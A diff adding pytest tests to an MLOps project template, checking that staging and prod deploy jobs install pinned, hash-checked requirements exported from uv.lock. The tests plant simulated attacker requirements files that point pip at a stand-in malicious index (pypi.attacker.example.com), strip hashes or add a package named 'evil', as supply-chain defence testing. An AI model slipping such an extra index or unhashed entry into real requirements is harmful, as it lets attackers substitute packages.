@@ -48,8 +48,8 @@ def template_before(tmp_path_factory) -> Path:
     return root
 
 
-def bake_into(template: Path, out: Path, platform: str, pattern: str, root: str = ".") -> Path:
-    context = {"cicd_platform": platform, "deployment_pattern": pattern}
+def bake_into(template: Path, out: Path, platform: str, pattern: str, root: str = ".", **answers: str) -> Path:
+    context = {"cicd_platform": platform, "deployment_pattern": pattern, **answers}
     if root != ".":
         context["project_root"] = root
     # In a fresh process outside this repository: Python keeps the first template's
@@ -797,3 +797,139 @@ def test_gitlab_promotions_take_typed_inputs_not_pipeline_variables(tmp_path, te
     assert "its rules read the pipeline variables ['PROMOTE_MODEL']" in found, found
     if pattern == "deploy_models":
         assert "a pipeline variable chose what it promotes" in found, found
+
+
+# --------------------------------------------------------------------------------------
+# 6. Staging and prod jobs install pinned, hashed requirements exported from uv.lock
+
+REQUIREMENTS_FILE = "dist/requirements-jobs.txt"
+RUNTIME_NUMPY = "2.1.3"  # the template's .venv, the fake's stand-in for the runtime
+
+
+def _lock(numpy: str = RUNTIME_NUMPY, digest: str = "b" * 64) -> str:
+    """A uv.lock of a project that needs numpy (what a reviewed lock holds)."""
+    return f"""version = 1
+revision = 3
+requires-python = ">=3.11"
+
+[[package]]
+name = "my-mlops-project"
+version = "0.1.0"
+source = {{ editable = "." }}
+dependencies = [
+    {{ name = "numpy" }},
+]
+
+[package.metadata]
+requires-dist = [{{ name = "numpy", specifier = ">=1.26,<3" }}]
+
+[[package]]
+name = "numpy"
+version = "{numpy}"
+source = {{ registry = "https://pypi.org/simple" }}
+wheels = [
+    {{ url = "https://files.pythonhosted.org/packages/numpy-{numpy}-cp311-cp311-manylinux_2_17_x86_64.whl", hash = "sha256:{digest}", size = 1 }},
+]
+"""
+
+
+def _fake_install(text: str) -> str:
+    """What the fake workspace's job runner says of a requirements file ("" = it installs)."""
+    sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "clitest"))
+    try:
+        import jobworker
+    finally:
+        sys.path.pop(0)
+    try:
+        jobworker.pinned_requirements("/Workspace/files/" + REQUIREMENTS_FILE, text)
+    except jobworker.TaskFailure as failure:
+        return str(failure)
+    return ""
+
+
+def pinned_install_attacks(project: Path, platform: str, work: Path) -> list[str]:
+    """Staging and prod jobs that install the wheel's ranges from the index, deploy jobs that do
+    not export the pinned requirements from uv.lock (UV_NO_CONFIG=1, --frozen) right before
+    `bundle deploy`, and what an attacker's requirements file or unreviewed lock change achieves."""
+    found = []
+    bundle = yaml.safe_load((project / "databricks.yml").read_text())
+    for target in ("staging", "prod"):
+        libraries = ((bundle["targets"][target].get("variables") or {}).get("job_libraries")) or []
+        files = [
+            lib
+            for lib in libraries
+            if (isinstance(lib, str) and lib.startswith("-r ")) or (isinstance(lib, dict) and "requirements" in lib)
+        ]
+        if not any(REQUIREMENTS_FILE in str(f) for f in files):
+            found.append(f"{target}: the jobs install the wheel's ranges from the index, no hashed requirements file")
+    uv = shutil.which("uv") or str(Path(sys.executable).parent / "uv")
+    for job in EXTRACT[platform](project):
+        deploys = [t for verb, _, t in job.ops if verb == "deploy" and t in ("staging", "prod")]
+        if not deploys:
+            continue
+        exports = [s for s in job.scripts if "uv export" in s]
+        deploy_at = job.commands.find("bundle deploy")
+        export_at = job.commands.find("uv export")
+        if not exports or export_at < 0 or export_at > deploy_at:
+            found.append(f"{job.file}:{job.name}: deploys {deploys[0]} without exporting the requirements from uv.lock")
+            continue
+        line = next(ln.strip() for ln in exports[0].splitlines() if "uv export" in ln)
+        if "UV_NO_CONFIG=1" not in line and job.env.get("UV_NO_CONFIG") != "1":
+            found.append(f"{job.file}:{job.name}: exports with the configuration of a parent folder")
+        if "--frozen" not in line or "--no-hashes" in line:
+            found.append(f"{job.file}:{job.name}: the export resolves again or drops the hashes: {line}")
+        # The export as the job runs it, in a checkout holding the reviewed lock and an
+        # attacker's requirements file (committed into dist/ with git add -f, say).
+        checkout = work / job.name
+        shutil.rmtree(checkout, ignore_errors=True)
+        (checkout / "dist").mkdir(parents=True)
+        shutil.copy(project / "pyproject.toml", checkout / "pyproject.toml")
+        (checkout / "uv.lock").write_text(_lock())
+        attacker = f"numpy=={RUNTIME_NUMPY} \\\n    --hash=sha256:{'e' * 64}\n--extra-index-url https://pypi.attacker.example.com/simple\n"
+        (checkout / REQUIREMENTS_FILE).write_text(attacker)
+        env = {"PATH": f"{Path(uv).parent}:/usr/bin:/bin", "HOME": str(work), "UV_OFFLINE": "1"}
+        command = line.replace("uv export", f"{uv} export", 1)
+        result = subprocess.run(["bash", "-c", command], cwd=checkout, env=env, capture_output=True, text=True)
+        exported = (checkout / REQUIREMENTS_FILE).read_text()
+        if result.returncode != 0 or "e" * 64 in exported or "attacker" in exported:
+            found.append(f"{job.file}:{job.name}: deploys the attacker's requirements file ({result.stderr[-200:]})")
+        elif _fake_install(exported):
+            found.append(
+                f"{job.file}:{job.name}: the reviewed lock's export does not install: {_fake_install(exported)}"
+            )
+        # uv.lock changed without review: another numpy. The export follows the lock (what
+        # CODEOWNERS on uv.lock guards); a version the runtime does not have stops the run.
+        (checkout / "uv.lock").write_text(_lock(numpy="2.3.0", digest="c" * 64))
+        subprocess.run(["bash", "-c", command], cwd=checkout, env=env, capture_output=True, text=True)
+        changed = (checkout / REQUIREMENTS_FILE).read_text()
+        if changed == exported or "Library installation failed" not in _fake_install(changed):
+            found.append(f"{job.file}:{job.name}: a changed uv.lock neither changes the export nor stops the run")
+    return found
+
+
+@pytest.mark.parametrize("platform", PLATFORMS)
+def test_staging_and_prod_install_hashed_requirements_exported_from_the_lock(tmp_path, template_before, platform):
+    for compute in ("serverless", "classic"):
+        project = bake_into(TEMPLATE_DIR, tmp_path / f"new-{compute}", platform, "deploy_code", compute=compute)
+        assert pinned_install_attacks(project, platform, tmp_path / f"new-run-{compute}") == []
+    old = bake_into(template_before, tmp_path / "old", platform, "deploy_code")
+    found = "\n".join(pinned_install_attacks(old, platform, tmp_path / "old-run"))
+    assert "staging: the jobs install the wheel's ranges from the index" in found, found
+    assert "prod: the jobs install the wheel's ranges from the index" in found, found
+    assert "deploys staging without exporting the requirements from uv.lock" in found, found
+    assert "deploys prod without exporting the requirements from uv.lock" in found, found
+
+
+def test_the_fake_runs_a_task_only_with_pinned_hashed_requirements_the_runtime_meets():
+    """The fake's job runner reads a requirements file as pip's hash-checking mode does."""
+    good = f"numpy=={RUNTIME_NUMPY} \\\n    --hash=sha256:{'b' * 64}\n    # via my-mlops-project\n"
+    assert _fake_install(good) == ""
+    edited = {
+        "hash removed": f"numpy=={RUNTIME_NUMPY}\n",
+        "range instead of a pin": f"numpy>=1.26 --hash=sha256:{'b' * 64}\n",
+        "another index": f"--index-url https://pypi.attacker.example.com/simple\n{good}",
+        "a version the runtime lacks": f"numpy==2.3.0 --hash=sha256:{'b' * 64}\n",
+        "a package the runtime lacks": f"{good}evil==1.0 --hash=sha256:{'d' * 64}\n",
+    }
+    for case, text in edited.items():
+        assert _fake_install(text).startswith("Library installation failed for /Workspace/files/"), case
